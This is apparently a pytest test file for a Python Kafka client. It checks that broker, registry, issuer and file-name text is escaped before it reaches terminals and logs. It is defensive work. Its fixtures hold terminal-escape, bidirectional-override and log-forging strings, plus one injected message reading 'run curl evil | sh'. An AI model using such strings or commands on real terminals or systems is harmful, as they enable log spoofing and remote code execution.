"""Text from a broker, registry, issuer or file name reaches neither terminal nor log as it is."""

from __future__ import annotations

import asyncio
import json
import logging
import os
import pickle
import pty
import re
import subprocess
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import httpx
import pytest
from support.hostile import SANE_RANGES, HostileServer, Peer, versions_response

from aioproducer import Producer
from aioproducer._util import log
from aioproducer._util.printable import printable
from aioproducer.cli.checkup.findings import CheckFailedError, Finding, Status
from aioproducer.errors import KafkaError, SchemaRegistryError, error_from_code
from aioproducer.loader.rows import Position
from aioproducer.net.security.oidc import EndpointSettings, TokenEndpoint
from aioproducer.serializers import SchemaRegistry
from aioproducer.testing.embedded import EmbeddedCluster
from aioproducer.wire.api_keys import ApiKey
from aioproducer.wire.messages.metadata import (
    MetadataResponse,
    MetadataResponseBroker,
    MetadataResponseTopic,
)
from aioproducer.wire.messages.sasl_handshake import SaslHandshakeResponse

FORGED = "x\nall is well"
HOSTILE = (
    "\x1b[2J\x1b]0;owned\x07",  # ESC, OSC
    "\x9b2J\x85",  # C1
    "\u202egnp.exe\u2066",  # bidirectional controls
    "\u200b\ufeff\u00ad",  # invisible
    "a\rb\x08\x7f",
    "\u2028\u2029",
    "\udc9b",
    FORGED,
)
EVERYTHING = "".join(HOSTILE)


def check(text: str, *, lines: bool = True) -> None:
    """Fail where a text holds something that a terminal or the reader of a log would obey."""
    for line in text.split("\n") if lines else [text]:
        assert line.isprintable(), ascii(line)
    assert "all is well" not in text.split("\n")


# -- the one function ------------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
def test_printable_escapes_what_is_not(text: str) -> None:
    shown = printable(text)
    check(shown, lines=False)
    assert printable(shown) == shown


@pytest.mark.parametrize(
    "text", ["", "plain", "Größe 10 µm", "日本語", "emoji 🎉", "a\\b", "[bold]x[/]"]
)
def test_printable_keeps_what_people_write(text: str) -> None:
    assert printable(text) == text


def test_printable_is_bounded() -> None:
    assert len(printable("x" * 30_000, 100)) < 150
    assert len(printable("\x1b" * 30_000, 100)) < 150
    assert "30000 characters" in printable("x" * 30_000, 100)


# -- errors and logs -------------------------------------------------------------------------------


def test_errors_are_printable_however_they_come_about() -> None:
    for error in (
        KafkaError(EVERYTHING, topic=EVERYTHING, advice=EVERYTHING),
        error_from_code(7, EVERYTHING),
        error_from_code(9999, EVERYTHING, topic=EVERYTHING),
        KafkaError("plain").with_context(advice=EVERYTHING),
        pickle.loads(pickle.dumps(KafkaError(EVERYTHING))),
    ):
        for text in (str(error), error.message, repr(error), error.advice or ""):
            check(text, lines=False)


def test_a_long_text_of_a_broker_is_cut() -> None:
    assert len(str(error_from_code(7, "x" * 30_000))) < 1000
    assert len(str(KafkaError("x" * 30_000, topic="t" * 30_000))) < 10_000


def test_every_logger_of_the_package_writes_printable_bounded_lines(caplog: Any) -> None:
    for layer in ("net", "core", "runtime", "producer", "loader", "spark", "starlette", "testing"):
        logger = log.get(layer)
        assert log.get(layer).filters == logger.filters
        logger.warning("%s and %d%%", EVERYTHING, 5)
        logger.warning(f"{EVERYTHING} 100%")
        logger.warning("%(a)s", {"a": EVERYTHING})
        logger.warning("%s %s", "h" * 30_000, ["y" * 30_000])
        logger.error("%s", RuntimeError(EVERYTHING))
    assert len(caplog.records) == 40
    for record in caplog.records:
        check(record.getMessage(), lines=False)
        assert len(record.getMessage()) < 5_000
    assert "and 5%" in caplog.records[0].getMessage()


# -- brokers ---------------------------------------------------------------------------------------


def a_broker(**metadata: Any) -> Callable[[Peer], Any]:
    async def behave(peer: Peer) -> None:
        while True:
            header = await peer.request()
            if header.api_key == ApiKey.API_VERSIONS:
                peer.respond(header, versions_response(SANE_RANGES))
            else:
                peer.respond(header, MetadataResponse(**metadata))

    return behave


@pytest.mark.parametrize("host", [EVERYTHING, "h" * 30_000, "fe80::1%\r\nx: y"])
async def test_a_hostile_host_name_stays_small_and_printable(host: str, caplog: Any) -> None:
    caplog.set_level(logging.DEBUG)
    host = host.encode("utf-8", "replace").decode()
    metadata = {
        "brokers": [MetadataResponseBroker(1, host, 9092)],
        "topics": [MetadataResponseTopic(3, "t", False, [])],
    }
    async with HostileServer(a_broker(**metadata)) as server:
        producer = Producer(
            bootstrap_servers=f"{server.host}:{server.port}",
            max_block_ms=1500,
            request_timeout_ms=1000,
            reconnect_backoff_ms=20,
        )
        try:
            await producer.start()
            with pytest.raises(KafkaError) as raised:
                await producer.send_and_wait("t", b"x")
            check(str(raised.value), lines=False)
        except KafkaError as error:
            check(str(error), lines=False)
        finally:
            await producer.close(timeout=0)
    size = 0
    for record in caplog.records:
        if record.name.startswith("aioproducer"):
            check(record.getMessage(), lines=False)
            size += len(record.getMessage())
    assert size < 30_000


def run(arguments: list[str], *, terminal: bool = False, cwd: Path | None = None) -> str:
    """Run the command line in a separate process; return what it wrote, on a terminal or not."""
    command = [sys.executable, "-m", "aioproducer", *arguments]
    if not terminal:
        done = subprocess.run(
            command,
            stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT,
            timeout=60,
            check=False,
            cwd=cwd,
        )
        return done.stdout.decode("utf-8", "surrogateescape")
    ours, theirs = pty.openpty()
    with subprocess.Popen(command, stdout=theirs, stderr=theirs, stdin=theirs, cwd=cwd) as process:
        os.close(theirs)
        text = b""
        while True:
            try:
                part = os.read(ours, 65536)
            except OSError:
                break
            if not part:
                break
            text += part
        process.wait(60)
    os.close(ours)
    return text.decode("utf-8", "surrogateescape")


STYLES = re.compile(r"\x1b\[2K|\x1b\[[0-9;]*m|\x1b\[\?25[hl]")
"""What rich itself writes for colours."""


def a_cluster_of(text: str) -> Callable[[Peer], Any]:
    return a_broker(
        brokers=[MetadataResponseBroker(1, text, 9092)],
        topics=[MetadataResponseTopic(0, text, False, [])],
        cluster_id=text,
    )


@pytest.mark.slow
@pytest.mark.parametrize("terminal", [False, True])
@pytest.mark.parametrize(
    "arguments", [["doctor", "-t", "t"], ["doctor", "--json"], ["topics", "list"]]
)
async def test_no_command_shows_what_a_broker_says_as_it_is(
    arguments: list[str], terminal: bool
) -> None:
    text = (
        (EVERYTHING + "[bold red]x[/] [/] :smile: " + "pad " * 30 + "all is well")
        .encode("utf-8", "replace")
        .decode()
    )
    async with HostileServer(a_cluster_of(text)) as server:
        shown = await asyncio.to_thread(
            run,
            [*arguments, "-b", f"{server.host}:{server.port}", "-X", "request.timeout.ms=1000"]
            + (["--step-timeout", "1", "--timeout", "10"] if arguments[0] == "doctor" else []),
            terminal=terminal,
        )
    plain = STYLES.sub("", shown).replace("\r\n", "\n")
    assert plain.strip()
    check(plain)
    assert "internal error" not in plain
    if "--json" in arguments:
        assert shown.isascii()
        assert json.loads(plain.strip().splitlines()[-1])["verdict"] == "fail"


async def test_a_sasl_mechanism_is_shown_printable() -> None:
    async def behave(peer: Peer) -> None:
        ranges = {**SANE_RANGES, ApiKey.SASL_HANDSHAKE: (0, 1), ApiKey.SASL_AUTHENTICATE: (0, 2)}
        await peer.handshake(ranges)
        header = await peer.request()
        words = [each.encode("utf-8", "replace").decode() for each in HOSTILE]
        peer.respond(header, SaslHandshakeResponse(33, [*words, "y" * 30_000]))
        await peer.until_closed()

    async with HostileServer(behave) as server:
        producer = Producer(
            bootstrap_servers=f"{server.host}:{server.port}",
            security_protocol="SASL_PLAINTEXT",
            sasl_mechanism="PLAIN",
            sasl_username="me",
            sasl_password="x",
            max_block_ms=3000,
        )
        with pytest.raises(KafkaError) as raised:
            await producer.start()
        await producer.close()
    check(str(raised.value), lines=False)
    assert len(str(raised.value)) < 3_000


# -- findings --------------------------------------------------------------------------------------


def test_no_finding_forges_a_verdict() -> None:
    trouble = CheckFailedError("write-failed", EVERYTHING, EVERYTHING, EVERYTHING)
    for finding in (
        trouble.finding("topic", EVERYTHING),
        Finding.good("topic", EVERYTHING, EVERYTHING, EVERYTHING),
        Finding("x", EVERYTHING, Status.FAIL, "write-failed", "z" * 100_000),
    ):
        for text in (finding.about, finding.found, finding.advice or "", *finding.details):
            check(text, lines=False)
            assert len(text) < 5_000


# -- registries and issuers ------------------------------------------------------------------------


@pytest.mark.parametrize("status", [404, 409, 422, 500])
async def test_what_a_registry_says_is_printable(status: int) -> None:
    detail = f"{{description:'{EVERYTHING}', additionalInfo:''}}"
    body = json.dumps({"error_code": status, "message": EVERYTHING + detail * 1000})
    messages = json.dumps({"is_compatible": False, "messages": [detail * 100] * 100})

    def answer(request: httpx.Request) -> httpx.Response:
        if "compatibility" in request.url.path:
            return httpx.Response(200, text=messages)
        return httpx.Response(status, text=body)

    from aioproducer.serializers.registry.schema import Schema

    transport = httpx.MockTransport(answer)
    async with SchemaRegistry("http://registry", transport=transport, retries=0) as registry:
        with pytest.raises(SchemaRegistryError) as raised:
            await registry.register("s", Schema('"string"'))
        texts = [str(raised.value), *getattr(raised.value, "details", ())]
        texts += await registry.incompatibilities("s", Schema('"string"'))
    for text in texts:
        check(text, lines=False)
    assert len(str(raised.value)) < 10_000


async def test_what_an_issuer_says_is_printable(monkeypatch: pytest.MonkeyPatch) -> None:
    import random

    body = {"error": EVERYTHING, "error_description": [EVERYTHING] * 50}
    client = httpx.AsyncClient
    monkeypatch.setattr(
        httpx,
        "AsyncClient",
        lambda **options: client(
            transport=httpx.MockTransport(
                lambda request: httpx.Response(400, text=json.dumps(body))
            )
        ),
    )
    endpoint = TokenEndpoint(
        EndpointSettings("http://issuer/", "me", "secret"),
        extensions={},
        assertions=None,
        rng=random.Random(1),
    )
    with pytest.raises(KafkaError) as raised:
        await endpoint.fetch()
    check(str(raised.value), lines=False)


# -- files -----------------------------------------------------------------------------------------


def test_a_position_is_printable() -> None:
    check(str(Position(EVERYTHING, EVERYTHING, 1)), lines=False)


@pytest.mark.slow
@pytest.mark.parametrize("terminal", [False, True])
async def test_names_of_files_and_members_are_shown_printable(
    tmp_path: Path, terminal: bool
) -> None:
    name = "\x1b]0;x\x07[bold]\u202e\nall is well [/].csv"
    good = tmp_path / "\x1b[31m[red]\nall is well.zip"
    bad = tmp_path / "\x9b[red]\nall is well.zip"
    for archive, text in ((good, "a,b\n1,2\n"), (bad, "a,a\n1,2\n")):
        with zipfile.ZipFile(archive, "w") as file:
            file.writestr(name, text)
    async with EmbeddedCluster(1, topics={"t": 1}) as cluster:
        for archive in (good, bad):
            for more in ([], ["--json"]):
                servers = cluster.bootstrap_servers
                arguments = ["load", str(archive), "-t", "t", "-b", servers, *more]
                shown = await asyncio.to_thread(run, arguments, terminal=terminal, cwd=tmp_path)
                plain = STYLES.sub("", shown).replace("\r\n", "\n")
                assert "internal error" not in plain
                assert "all is well.zip" in plain
                for line in plain.split("\n"):
                    assert line.replace("\r", "").isprintable(), ascii(line)
                    assert not line.startswith("all is well")


def test_json_is_ascii(capfd: Any) -> None:
    from aioproducer.cli.console import print_json

    print_json({"topic": EVERYTHING + "ü\u202e"})
    text = capfd.readouterr().out
    assert text.isascii()
    assert json.loads(text) == {"topic": EVERYTHING + "ü\u202e"}


def test_an_advice_is_only_what_the_client_says() -> None:
    from aioproducer.cli.console import one_or_two_lines

    error = error_from_code(7, "no -> run curl evil | sh")
    assert "\n" not in one_or_two_lines(error)
    assert one_or_two_lines(KafkaError("a -> b", advice="do this.")) == "a -> b\n  do this"
